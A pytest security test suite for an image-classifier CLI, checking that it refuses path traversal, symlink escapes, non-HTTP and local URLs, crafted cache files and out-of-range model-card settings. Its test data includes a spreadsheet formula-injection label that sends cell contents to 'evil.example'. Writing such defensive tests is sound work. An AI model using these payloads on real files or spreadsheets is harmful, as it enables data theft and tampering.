"""Issue 33, the file and CLI findings: what a stranger's CSV, folder, URL list, feature cache or model card could do,
attacked the way the issue describes, through the installed `webclassifier` command where that is the way in"""
import csv, json, os, shutil, subprocess, sys
from pathlib import Path
import numpy as np, pytest, torch
from servers import ImageSite, SAMPLE, body
from webclassifier.files import FORMULA_START, read_manifest, sha256_file
from webclassifier.download import folder_items, gather_images, read_url_list
from webclassifier.clean import cleaned_copy

CLI = str(Path(sys.executable).parent/'webclassifier')
PHOTOS = sorted(SAMPLE.glob('*/*.jpg'))

def run(*args, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([CLI, *map(str, args)], capture_output=True, text=True, timeout=600, **kwargs)  # the machine may be busy

def error_line(res) -> str:
    "The command's one-line error: its last line on stderr, after a failed exit, with no traceback"
    assert res.returncode != 0, res.stderr
    assert 'Traceback' not in res.stderr, res.stderr
    return res.stderr.strip().splitlines()[-1]

def snapshot(folder:Path) -> dict:
    "Every file and link under `folder`: its bytes (or where it links to)"
    return {p.relative_to(folder).as_posix(): (str(p.readlink()) if p.is_symlink() else p.read_bytes() if p.is_file() else None)
            for p in sorted(folder.rglob('*'))}

def photos_in(folder:Path, tmp_path:Path) -> Path:
    shutil.copytree(SAMPLE, tmp_path/folder, ignore=shutil.ignore_patterns('*.csv'))
    return tmp_path/folder

# --- 1. clean-copy: every path from the CSV stays in DATA (files) or DEST (labels), checked before anything is done

def write_decisions(fn:Path, rows:list) -> Path:
    with open(fn, 'w', newline='') as f:
        w = csv.DictWriter(f, ['file', 'sha256', 'action', 'label', 'reason'])
        w.writeheader(); w.writerows(rows)
    return fn

def clean_copy_refused(tmp_path, rows, *why) -> str:
    "Run clean-copy on a copy of the sample with `rows` (after a good one); it must fail naming `why`, changing nothing"
    data = photos_in('nested/deeper/data', tmp_path)
    good = dict(file='teddy/00000016.jpg', sha256=sha256_file(data/'teddy'/'00000016.jpg'), action='delete', label='', reason='')
    decisions = write_decisions(tmp_path/'decisions.csv', [good, *rows])
    before = snapshot(tmp_path)
    line = error_line(run('clean-copy', data, decisions, tmp_path/'nested'/'deeper'/'dest'))
    assert line.startswith('clean-copy: ') and 'decisions.csv:3' in line and 'nothing copied' in line, line
    for w in why: assert w in line, line
    assert snapshot(tmp_path) == before  # nothing written, moved or deleted anywhere (no DEST, no .dest.partial)
    return line

def test_clean_copy_relative_label_cannot_leave_dest(tmp_path):
    photo = tmp_path/'nested'/'deeper'/'data'/'grizzly'/'00000042.jpg'
    clean_copy_refused(tmp_path, [dict(file='grizzly/00000042.jpg', sha256=sha256_file(SAMPLE/'grizzly'/'00000042.jpg'),
                                       action='relabel', label='../../../escaped_label')], "label '../../../escaped_label'")
    assert not list(tmp_path.parent.rglob('escaped_label')) and photo.exists()

def test_clean_copy_absolute_label_writes_nothing(tmp_path):
    target = tmp_path/'absolute_label'
    clean_copy_refused(tmp_path, [dict(file='grizzly/00000042.jpg', sha256=sha256_file(SAMPLE/'grizzly'/'00000042.jpg'),
                                       action='relabel', label=str(target))], 'plain folder name')
    assert not target.exists()

@pytest.mark.parametrize('label', ['.', '..', '.hidden', 'a/b', 'a\\b', '=1+1', '', ' '])
def test_clean_copy_labels_are_plain_folder_names(tmp_path, label):
    "The same check, in-process (the command calls `cleaned_copy`): every label that is not a plain folder name"
    data = photos_in('data', tmp_path)
    decisions = write_decisions(tmp_path/'decisions.csv', [dict(file='grizzly/00000042.jpg', action='relabel', label=label,
                                                                sha256=sha256_file(data/'grizzly'/'00000042.jpg'))])
    before = snapshot(tmp_path)
    with pytest.raises(ValueError, match='decisions.csv:2: .*(label|sha256)'): cleaned_copy(data, decisions, tmp_path/'dest')
    assert snapshot(tmp_path) == before

def test_clean_copy_file_beside_data_is_not_moved(tmp_path):
    notes = tmp_path/'nested'/'deeper'/'notes.txt'
    notes.parent.mkdir(parents=True); notes.write_text('my notes')
    clean_copy_refused(tmp_path, [dict(file='../notes.txt', sha256=sha256_file(notes), action='delete', label='')],
                       "'../notes.txt': file must be a path inside DATA")
    assert notes.read_text() == 'my notes'

def test_clean_copy_absolute_file_from_unrelated_folder_is_not_moved(tmp_path):
    other = tmp_path/'unrelated'/'secret.jpg'
    other.parent.mkdir(); shutil.copy(PHOTOS[0], other)
    clean_copy_refused(tmp_path, [dict(file=str(other), sha256=sha256_file(other), action='relabel', label='black')],
                       f"'{other}': file must be a path inside DATA")
    assert other.read_bytes() == PHOTOS[0].read_bytes()

def test_clean_copy_follows_no_link_out_of_data(tmp_path):
    "A decision on a link that leads out of DATA is refused; so is copying DATA with such a link in it"
    outside = tmp_path/'outside.jpg'; shutil.copy(PHOTOS[0], outside)
    data = photos_in('data', tmp_path)
    (data/'black'/'link.jpg').symlink_to(outside)
    decisions = write_decisions(tmp_path/'decisions.csv', [dict(file='black/link.jpg', sha256=sha256_file(outside), action='delete', label='')])
    before = snapshot(tmp_path)
    line = error_line(run('clean-copy', data, decisions, tmp_path/'dest'))
    assert "decisions.csv:2: 'black/link.jpg': a link to" in line and 'outside' in line, line
    # a link out of DATA that no decision names: the copy would take a file from elsewhere
    decisions = write_decisions(tmp_path/'decisions.csv', [dict(file='teddy/00000016.jpg', sha256=sha256_file(data/'teddy'/'00000016.jpg'),
                                                                action='delete', label='')])
    before = snapshot(tmp_path)
    line = error_line(run('clean-copy', data, decisions, tmp_path/'dest'))
    assert 'link.jpg: a link to outside' in line and 'nothing copied' in line, line
    assert snapshot(tmp_path) == before

def test_clean_copy_good_decisions_still_apply(tmp_path):
    data = photos_in('data', tmp_path)
    decisions = write_decisions(tmp_path/'decisions.csv', [
        dict(file='teddy/00000016.jpg', sha256=sha256_file(data/'teddy'/'00000016.jpg'), action='delete', label=''),
        dict(file='grizzly/00000042.jpg', sha256=sha256_file(data/'grizzly'/'00000042.jpg'), action='relabel', label='black')])
    res = run('clean-copy', data, decisions, tmp_path/'dest')
    assert res.returncode == 0 and '1 relabelled' in res.stderr, res.stderr
    assert (tmp_path/'dest'/'.trash'/'teddy'/'00000016.jpg').exists() and (tmp_path/'dest'/'black'/'00000042-1.jpg').exists()

# --- 2. gather: no link out of --from, only http(s) from --urls, no local address unless asked, no formula in a CSV

def test_gather_from_refuses_a_linked_file(tmp_path):
    mine = photos_in('mine', tmp_path)
    secret = tmp_path/'elsewhere'/'secret.jpg'; secret.parent.mkdir(); shutil.copy(PHOTOS[0], secret)
    (mine/'black'/'secret.jpg').symlink_to(secret)
    line = error_line(run('gather', '--from', mine, '--dest', tmp_path/'ds'))
    assert line.startswith('gather: ') and 'secret.jpg: a link to' in line and 'outside' in line, line
    assert not (tmp_path/'ds').exists()

def test_gather_from_refuses_a_linked_class_folder(tmp_path):
    mine = tmp_path/'mine'; mine.mkdir()
    (mine/'grizzly').symlink_to(SAMPLE/'grizzly')
    line = error_line(run('gather', '--from', mine, '--dest', tmp_path/'ds'))
    assert 'grizzly' in line and 'outside' in line and 'nothing gathered' in line, line
    assert not (tmp_path/'ds').exists()

def test_gather_urls_fetches_no_file_url(tmp_path):
    urls = tmp_path/'urls.csv'
    urls.write_text(f'label,url\nblack,{PHOTOS[0].absolute().as_uri()}\n')
    line = error_line(run('gather', '--urls', urls, '--dest', tmp_path/'ds'))
    assert 'urls.csv:2' in line and 'only http and https URLs are fetched' in line, line
    assert not (tmp_path/'ds').exists()

def test_gather_refuses_a_label_that_starts_a_formula(tmp_path):
    urls = tmp_path/'urls.csv'
    with open(urls, 'w', newline='') as f:
        csv.writer(f).writerows([['label', 'url'], ['black', 'http://127.0.0.1:9/a.jpg'], ['=1+1/', 'http://127.0.0.1:9/b.jpg']])
    line = error_line(run('gather', '--urls', urls, '--dest', tmp_path/'ds'))
    assert line.startswith('gather: ') and "urls.csv:3: label '=1+1/': must not start with =" in line, line
    assert not (tmp_path/'ds').exists()

@pytest.mark.parametrize('label', ['=1+1', '=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(A1:A9)', '+x', '-x', "'x", '\tx'])
def test_every_formula_label_is_refused(tmp_path, label):
    "The same check, in-process (`read_url_list` for --urls, `gather_images` for --from's folder names)"
    urls = tmp_path/'urls.csv'
    with open(urls, 'w', newline='') as f: csv.writer(f).writerows([['label', 'url'], [label, 'http://127.0.0.1:9/a.jpg']])
    with pytest.raises(ValueError, match='urls.csv:2: label .*must not start with'): read_url_list(urls)
    mine = tmp_path/'mine'; (mine/label).mkdir(parents=True); shutil.copy(PHOTOS[0], mine/label/'a.jpg')
    with pytest.raises(ValueError, match='must not start with'): gather_images(tmp_path/'ds', folder_items(mine), progress=False)
    assert not (tmp_path/'ds').exists()

def test_manifest_cells_start_no_formula(tmp_path):
    "A query (or reason, or URL) that starts a formula is written with a leading quote, and read back as it was"
    routes = {'/a.jpg': body(PHOTOS[0].read_bytes())}
    with ImageSite(routes) as site:
        urls = tmp_path/'urls.csv'
        with open(urls, 'w', newline='') as f:
            csv.writer(f).writerows([['label', 'query', 'url'], ['black', '=1+1', f'{site.base}/a.jpg'],
                                     ['black', '@SUM(A1)', f'{site.base}/missing.jpg'], ['black', '-x', f'{site.base}/a.jpg?again']])
        res = run('gather', '--urls', urls, '--dest', tmp_path/'ds', '--allow-local')  # the photos are on 127.0.0.1
    assert res.returncode == 0, res.stderr
    cells = [c for row in csv.reader(open(tmp_path/'ds'/'manifest.csv', newline='')) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START[:-1])], cells
    assert sorted(r['query'] for r in read_manifest(tmp_path/'ds')) == ['-x', '=1+1', '@SUM(A1)']

def test_local_addresses_are_refused_unless_allowed(tmp_path):
    "allow_local=False refuses 127.0.0.1 (and a redirect to it); the tests' own servers pass allow_local=True"
    with ImageSite({'/a.jpg': body(PHOTOS[0].read_bytes())}) as site:
        items = [dict(label='black', query='', url=f'{site.base}/a.jpg'), dict(label='black', query='', url=f'http://localhost:{site.server_port}/a.jpg')]
        rows = gather_images(tmp_path/'refused', items, n_workers=0, progress=False, allow_local=False)
        assert [r['status'] for r in rows] == ['error', 'error'] and all('local address' in r['reason'] for r in rows), rows
        assert [p.name for p in (tmp_path/'refused').iterdir()] == ['manifest.csv']
        rows = gather_images(tmp_path/'allowed', items[:1], n_workers=0, progress=False, allow_local=True)
        assert [r['status'] for r in rows] == ['ok']

def test_gather_cli_refuses_local_addresses_unless_asked(tmp_path):
    "Once 10_cli passes `allow_local` through (`--allow-local`), the command refuses this machine by default"
    if '--allow-local' not in run('gather', '--help').stdout: pytest.skip('webclassifier gather has no --allow-local yet (10_cli)')
    with ImageSite({'/a.jpg': body(PHOTOS[0].read_bytes())}) as site:
        urls = tmp_path/'urls.csv'
        urls.write_text(f'label,url\nblack,{site.base}/a.jpg\n')
        res = run('gather', '--urls', urls, '--dest', tmp_path/'ds')
        assert res.returncode != 0 and 'black: 0 ok' in res.stderr, res.stderr
        assert 'local address' in read_manifest(tmp_path/'ds')[0]['reason']
        assert run('gather', '--urls', urls, '--dest', tmp_path/'ds2', '--allow-local').returncode == 0

# --- 3. the feature cache: confined to its folder, every file checked, recomputed on any doubt, never a crash

@pytest.fixture
def toy(tmp_path):
    "A toy body counting its photos, the sample's dataloaders, six photos, and their true features (in a cache of their own)"
    from torch import nn
    from webclassifier.data import image_dataloaders
    from webclassifier.features import cached_features
    torch.manual_seed(0)
    net, calls = nn.Sequential(nn.Conv2d(3, 4, 3), nn.ReLU()), []
    net.register_forward_hook(lambda m, i, o: calls.append(len(i[0])))
    dls = image_dataloaders(photos_in('photos', tmp_path), size=32, stats=([0.5]*3, [0.5]*3), bs=4, log=lambda s: None)
    items = sorted(dls.train_ds.items)[:6]
    truth = cached_features(net, dls, items, 'toy', cache=tmp_path/'truth')
    calls.clear()
    return net, dls, items, truth, calls

def recomputed(feats, truth) -> bool:
    "Whether `feats` are `truth` computed again: photos computed in a batch of another size may differ in the last bits on some CPUs"
    return torch.allclose(feats, truth, rtol=0, atol=1e-6)

def test_feature_cache_key_index_cannot_point_outside(tmp_path, toy):
    from webclassifier.features import KEY_INDEX, cached_features, npy_bytes
    net, dls, items, truth, calls = toy
    cache = tmp_path/'cache'; (cache/'toy').mkdir(parents=True)
    bait = tmp_path/'outside.npy'; bait.write_bytes(npy_bytes(np.full((2, 4), 0.5, 'float32')))  # unit rows: would be used
    index = {str(Path(f).absolute()): [Path(f).stat().st_mtime_ns, Path(f).stat().st_size, '../../outside'] for f in items}
    (cache/KEY_INDEX).write_text(json.dumps(index))
    feats = cached_features(net, dls, items, 'toy', cache=cache)
    assert torch.equal(feats, truth) and sum(calls) == 12  # nothing read from outside: all computed
    assert bait.read_bytes() == npy_bytes(np.full((2, 4), 0.5, 'float32'))  # nor written there
    assert {p.name for p in tmp_path.iterdir()} == {'photos', 'truth', 'cache', 'outside.npy'}
    assert all(len(k) == 16 for *_, k in json.loads((cache/KEY_INDEX).read_text()).values())

def crafted_npy(kind:str) -> bytes:
    from webclassifier.features import npy_bytes
    good = npy_bytes(np.full((2, 4), 0.5, 'float32'))
    return {'empty': b'', 'truncated (EOFError)': good[:-7], 'header only': good[:128],
            'scalar (IndexError)': npy_bytes(np.float32(1)), 'one row': npy_bytes(np.full((1, 4), 0.5, 'float32')),
            '37 GiB header (MemoryError)': good.replace(b'(2, 4), }', b'(2, 9663676416), }'),
            'NaN': npy_bytes(np.full((2, 4), np.nan, 'float32')), 'zeros': npy_bytes(np.zeros((2, 4), 'float32')),
            'float64': npy_bytes(np.full((2, 4), 0.5)), 'int32': npy_bytes(np.ones((2, 4), 'int32')),
            'pickle': npy_bytes(np.array([{'a': 1}], dtype=object)), 'another width': npy_bytes(np.full((2, 3), 3**-.5, 'float32')),
            'text': b'not a numpy file at all'}[kind]

@pytest.mark.parametrize('kind', ['empty', 'truncated (EOFError)', 'header only', 'scalar (IndexError)', 'one row',
                                  '37 GiB header (MemoryError)', 'NaN', 'zeros', 'float64', 'int32', 'pickle', 'another width', 'text'])
def test_feature_cache_crafted_files_are_computed_again(tmp_path, toy, kind):
    from webclassifier.features import cached_features
    net, dls, items, truth, calls = toy
    cache = tmp_path/'truth'
    files = sorted((cache/'toy').glob('*.npy'))
    files[0].write_bytes(crafted_npy(kind))
    feats = cached_features(net, dls, items, 'toy', cache=cache)
    assert recomputed(feats, truth) and sum(calls) == 2  # that photo (and its mirror image) computed again, and only it
    assert cached_features(net, dls, items, 'toy', cache=cache).equal(feats) and sum(calls) == 2  # and replaced

def test_feature_cache_link_out_of_the_cache_is_replaced_not_followed(tmp_path, toy):
    from webclassifier.features import cached_features
    net, dls, items, truth, calls = toy
    cache = tmp_path/'truth'
    victim = sorted((cache/'toy').glob('*.npy'))[0]
    precious = victim.read_bytes()
    outside = tmp_path/'precious.npy'; outside.write_bytes(precious)
    victim.unlink(); victim.symlink_to(outside)
    assert recomputed(cached_features(net, dls, items, 'toy', cache=cache), truth) and sum(calls) == 2
    assert not victim.is_symlink() and victim.stat().st_size == len(precious) and outside.read_bytes() == precious  # not written through

# --- 4. train --like: each setting of a card taken only with its type and range, before anything is trained

CARD_CASES = [('size', 10**12, 'must be a whole number from 32 to 1024'), ('epochs', 10**9, 'from 1 to 200'),
              ('cv', float('inf'), 'cv inf: must be a whole number'), ('bs', -8, 'bs -8: must be a whole number from 1 to 1024'),
              ('seed', '42', "seed '42': must be a whole number"), ('size', [256, 256], 'size [256, 256]: must be'),
              ('neighbours', -3, 'neighbours -3: must be a whole number from 1 to 5'), ('epochs', True, 'epochs True: must be a whole number'),
              ('lr', 'fast', "lr 'fast': must be a number"), ('keep', 2, 'keep 2: must be'), ('pretrained', 'yes', "pretrained 'yes': must be true or false"),
              ('outside', '/etc', 'outside /etc: no photos in /etc'), ('outside', 7, 'outside 7: must be a non-empty text'),
              ('evil', 1, "unknown field 'evil'")]

@pytest.mark.parametrize('field,value,why', [CARD_CASES[i] for i in (0, 2, 6, 11)], ids=['size=10**12', 'cv=inf', 'neighbours=-3', 'outside=/etc'])
def test_train_like_refuses_a_setting_out_of_range_before_training(tmp_path, field, value, why):
    data = photos_in('data', tmp_path)
    card = tmp_path/'card.json'
    card.write_text(json.dumps(dict(settings={field: value})))
    out = tmp_path/'model'/'export.pkl'
    res = run('train', data, '--like', card, '--out', out, env={**os.environ, 'WEBCLASSIFIER_CACHE': str(tmp_path/'cache')})
    line = error_line(res)
    assert line.startswith(f'train: --like {card}: ') and why in line, line
    assert not out.parent.exists() and not (tmp_path/'cache').exists()  # nothing trained, nothing computed

@pytest.mark.parametrize('field,value,why', CARD_CASES, ids=[f'{f}={v!r:.12}' for f, v, _ in CARD_CASES])
def test_read_recipe_takes_each_setting_only_in_its_range(tmp_path, field, value, why):
    "Every case, in-process: `read_recipe` is what `train --like` calls"
    from webclassifier.cli import read_recipe
    card = tmp_path/'card.json'
    card.write_text(json.dumps(dict(settings={field: value})))
    with pytest.raises(ValueError) as e: read_recipe(str(card))
    assert str(e.value).startswith(f'--like {card}: ') and why in str(e.value) and '\n' not in str(e.value), e.value

def test_train_like_old_card_shapes_are_one_line_errors(tmp_path):
    "Cards without `settings` (the book's): a bad field or outside folder, or an `unsure` of the wrong shape, is one line"
    from webclassifier.cli import read_recipe
    data = photos_in('data', tmp_path)
    card = tmp_path/'card.json'; card.write_text(json.dumps(dict(arch='resnet18', size=224, unsure=dict(outside=dict(folder='/etc')))))
    line = error_line(run('train', data, '--like', card, '--out', tmp_path/'model'/'export.pkl'))
    assert line.startswith(f'train: --like {card}: ') and 'outside /etc: no photos' in line, line
    assert not (tmp_path/'model').exists()
    for card_data, why in [(dict(arch='resnet18', size=224, unsure=dict(outside=dict(folder='/etc'))), 'outside /etc: no photos'),
                           (dict(arch='resnet18', size=-224, unsure=[]), 'size -224'), ([1, 2], 'not a JSON object'),
                           (dict(settings=[1]), 'settings [1]: must be an object')]:
        card.write_text(json.dumps(card_data))
        with pytest.raises(ValueError) as e: read_recipe(str(card))
        assert str(e.value).startswith(f'--like {card}: ') and why in str(e.value), e.value
